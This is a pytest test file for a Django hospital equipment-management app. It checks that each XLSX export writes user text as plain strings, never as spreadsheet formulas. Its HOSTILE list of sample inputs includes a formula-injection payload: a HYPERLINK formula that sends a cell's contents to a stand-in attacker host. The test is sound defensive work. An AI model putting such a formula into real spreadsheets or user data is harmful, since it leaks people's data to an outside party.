"""Every XLSX the product writes keeps user text as text, never as a formula.

The list pages are discovered from the registry of ``tenants.tables`` (a new page joins this
test by registering), every text column of each is filled with values starting with ``=``,
``+``, ``-`` and ``@``, and the exported workbook must hold them as plain strings.
"""

from __future__ import annotations

import datetime
import re
import zipfile
from io import BytesIO
from typing import Any

import pytest
from django.conf import settings
from django.db import models
from django.http import QueryDict
from django.urls import get_resolver, reverse
from django_tenants.utils import tenant_context
from openpyxl import load_workbook

from tenants.campaigns.models import Campaign
from tenants.inventory.models import Device
from tenants.loans.services import LoanInput, record_loan
from tenants.markets.models import Lot, Market, Supplier
from tenants.plan.models import PlanLine
from tenants.plan.services import assign_manager
from tenants.requests import workflow
from tenants.requests.arbitration import Decision, decide_many, session
from tenants.requests.models import EquipmentRequest, RequestEvent
from tenants.requests.services import PartInput, save_draft
from tenants.structure.models import Establishment, FunctionalUnit, Pole, Service
from tenants.tables.listing import PAGES, _field_at, all_columns, export_columns, resolve
from tenants.trials.services import create_trial
from tests.conftest import client_for, host_of

# List pages register when their views load: load every page of a tenant's site first.
get_resolver(settings.ROOT_URLCONF).url_patterns

# What a hostile requester types: each would run in a spreadsheet if written as a formula.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&B2,"Cliquez")',
    "+SUM(1;2)",
    "-2+3",
    "@SUM(1,2)",
)


def workbook_of(response: Any) -> bytes:
    assert response.status_code == 200, response.status_code
    content = getattr(response, "streaming_content", None)
    return b"".join(content) if content is not None else response.content


def assert_text_only(data: bytes, expected: set[str]) -> None:
    """No formula anywhere, and each hostile value present, unchanged, as a string cell."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), f"a formula in {name}"
    book = load_workbook(BytesIO(data))
    found = {
        cell.value
        for sheet in book.worksheets
        for line in sheet.iter_rows()
        for cell in line
        if isinstance(cell.value, str) and cell.data_type == "s"
    }
    assert expected <= found, f"missing or not text: {expected - found}"


@pytest.fixture
def data(tenant, chain):  # type: ignore[no-untyped-def]
    """Rows for every list page: requests through the commission (one granted: a plan line,
    one refused with a reason), a device, the chain's campaign and UF."""
    u = chain["users"]
    with tenant_context(tenant):
        requests = [chain["request"]]
        requests.append(
            save_draft(
                by=u["requester"],
                campaign=chain["campaign"],
                uf=chain["rea"],
                title="Lit",
                parts=[PartInput("investment", 1, "15000")],
            )
        )
        for request in requests:
            request = workflow.submit(request, by=u["requester"])
            request = workflow.give_pole_opinion(
                request, by=u["pole_head"], favourable=True, reason="Utile"
            )
            request = workflow.dispatch(request, by=u["dispatcher"], domain=chain["biomedical"])
            request = workflow.give_expert_opinion(
                request, by=u["expert"], favourable=False, reason="Cher"
            )
            workflow.validate(request, by=u["manager"])
        first, second = (EquipmentRequest.objects.get(pk=r.pk) for r in requests)
        waiting = save_draft(
            by=u["requester"],
            campaign=chain["campaign"],
            uf=chain["rea"],
            title="Moniteur",
            parts=[PartInput("investment", 1, "5000")],
        )
        workflow.submit(waiting, by=u["requester"])  # waits for the head of pôle
        decide_many(
            chain["campaign"],
            [
                Decision(first.pk, "granted", "28000", "", first.version),
                Decision(second.pk, "refused", "", "Pas cette année", second.version),
            ],
            by=u["commission"],
        )
        # The granted line gets its manager: "Plan lines I manage" has a row too.
        assign_manager(PlanLine.objects.get(request=first), u["expert"], by=u["dispatcher"])
        device = Device.objects.create(
            inventory_number="A-001",
            uf=chain["rea"],
            manufacturer_name="Philips",
            model_name="MX450",
            serial_number="SN1",
        )
        # A loan between services: the réanimation lends it to the block.
        block = FunctionalUnit.objects.create(
            service=Service.objects.create(pole=chain["pole"], code="S9", name="Bloc"),
            code="2201",
            name="Bloc",
        )
        record_loan(
            LoanInput(
                device=device,
                borrowing_uf=block,
                starts_on=datetime.date.today(),
                due_on=datetime.date.today() + datetime.timedelta(days=7),
                lender_name="Mme Durand",
                borrower_name="Dr Martin",
                reason="Renfort",
            ),
            by=u["requester"],
        )
        # A manufacturer's trial in the UF: the trials' list has a row.
        create_trial(
            {
                "device": "Échographe",
                "manufacturer": "GE",
                "contact_name": "Jean",
                "ce_marking": "IIa",
                "uf": chain["rea"],
                "domain": chain["biomedical"],
                "expert": u["expert"],
                "planned_start": datetime.date(2027, 1, 4),
                "planned_return": datetime.date(2027, 1, 18),
                "purpose": "Essai",
            },
            by=u["expert"],
        )
        # A local market with a lot and its supplier: the markets' list has a row.
        market = Market.objects.create(origin="local", reference="AO-1", title="Pompes")
        lot = Lot.objects.create(market=market, number="1", title="Pompes volumétriques")
        lot.suppliers.add(Supplier.objects.create(name="Baxter"))
        # An exception, a purchase file and a purchase request on the plan line.
        from tenants.purchasing.models import (
            OffContractException,
            OrderLine,
            PurchaseFile,
            PurchaseRequest,
        )

        plan_line = PlanLine.objects.order_by("pk").first()
        assert plan_line is not None
        supplier = Supplier.objects.create(name="Dräger")
        today = datetime.date.today()
        exception = OffContractException.objects.create(
            code="HM4",
            supplier=supplier,
            valid_from=today,
            valid_until=today,
            created_by=u["expert"],
        )
        file = PurchaseFile.objects.create(title="Réa", lead=u["expert"], created_by=u["expert"])
        file.plan_lines.set([plan_line])
        item = PurchaseRequest.objects.create(
            file=file,
            supplier=supplier,
            quote_date=today,
            quote_number="DEV-1",
            exception=exception,
            created_by=u["expert"],
        )
        OrderLine.objects.create(
            request=item,
            plan_line=plan_line,
            description="Pompe",
            quantity=1,
            unit_price=1,
            vat_rate=20,
        )
        # A finding of the controls in the UF: the findings' list has a row.
        from django.utils import timezone

        from tenants.controls.models import Finding

        Finding.objects.create(
            code="FIN-ZERO-ORDER",
            key="2027/C-1",
            level=4,
            uf=chain["rea"],
            buyer="ACH1",
            data={
                "order": "C-1",
                "year": 2027,
                "supplier": "Braun",
                "placed": "",
                "committed": "0",
            },
            fingerprint="x",
            opened=timezone.now(),
        )
    return chain


def _make_hostile(rows: models.QuerySet[Any], path: str, hostile: str) -> list[str]:
    """Write hostile text into the field at ``path`` of the objects the rows show."""
    model = rows.model
    field = _field_at(model, path)
    if not isinstance(field, models.CharField | models.TextField) or field.choices:
        return []
    prefix = path.rpartition("__")[0]
    pks = set(rows.values_list(f"{prefix}__pk" if prefix else "pk", flat=True)) - {None}
    written = []
    for pk in sorted(pks):
        # Each object gets its own value: some text columns are unique (inventory numbers,
        # references), some short: the hostile text is cut, never the object's number.
        suffix = f" {pk}"
        value = hostile[: (field.max_length or 1000) - len(suffix)] + suffix
        field.model._default_manager.filter(pk=pk).update(**{field.name: value})
        written.append(value)
    return written


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("key", sorted(PAGES))
def test_every_list_export_writes_user_text_as_text(tenant, data, key, hostile):
    page = PAGES[key]
    url = reverse(page.url_name)
    columns = [name for name, _header in all_columns(page)]
    expected: set[str] = set()
    with tenant_context(tenant):
        # The first person (administrator first) who sees rows on this page exports it.
        for person in (data["admin"], *data["users"].values()):
            resolved = resolve(page, person, QueryDict(), columns, {})
            if page.can_view(person) and resolved.rows.exists():
                break
        else:
            pytest.fail(f"{key}: nobody sees a row of this page: add rows to the fixture")
        for column in export_columns(resolved):
            if column.kind == "text" and column.labels is None:
                expected |= set(_make_hostile(resolved.rows, column.path, hostile))
    assert expected, f"{key}: no text column to check"
    client = client_for(host_of(tenant), person, tenant)
    assert client.post(f"/lists/{key}/columns/", {"columns": columns, "next": url}).status_code
    response = client.get(url, {"export": "xlsx"})
    assert_text_only(workbook_of(response), expected)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_commissions_workbook_writes_user_text_as_text(tenant, data, hostile):
    expected = set()
    with tenant_context(tenant):
        for model, name in (
            (EquipmentRequest, "title"),
            (Establishment, "name"),
            (Pole, "name"),
            (Service, "name"),
            (RequestEvent, "reason"),
        ):
            for pk in model.objects.values_list("pk", flat=True):
                value = f"{hostile} {pk}"
                model.objects.filter(pk=pk).update(**{name: value})
                expected.add(value)
    # Only what the workbook shows: the session's requests and events.
    client = client_for(host_of(tenant), data["users"]["commission"], tenant)
    response = client.get(f"/campaigns/{data['campaign'].pk}/arbitration/", {"export": "xlsx"})
    content = workbook_of(response)
    with tenant_context(tenant):
        rows = session(Campaign.objects.get(pk=data["campaign"].pk)).rows
        # Opinions are written as "favourable — reason": they never start with the reason.
        shown = {row.decision_reason for row in rows}
        for row in rows:
            pole = row.request.uf.service.pole
            shown |= {row.request.title, pole.establishment.name, pole.name}
            shown.add(row.request.uf.service.name)
    assert_text_only(content, expected & shown)
    assert len(expected & shown) >= 6  # two titles, the names, a reason


def test_no_workbook_is_written_outside_the_one_writer():
    """A new XLSX must go through tenants.tables.xlsx, which writes user text as text."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[3]
    writers = [
        str(path.relative_to(root))
        for folder in ("saas", "tenants", "api", "shared_reference")
        for path in (root / folder).rglob("*.py")
        if re.search(r"\bWorkbook\b|\bWriteOnlyCell\b", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["tenants/tables/xlsx.py"]
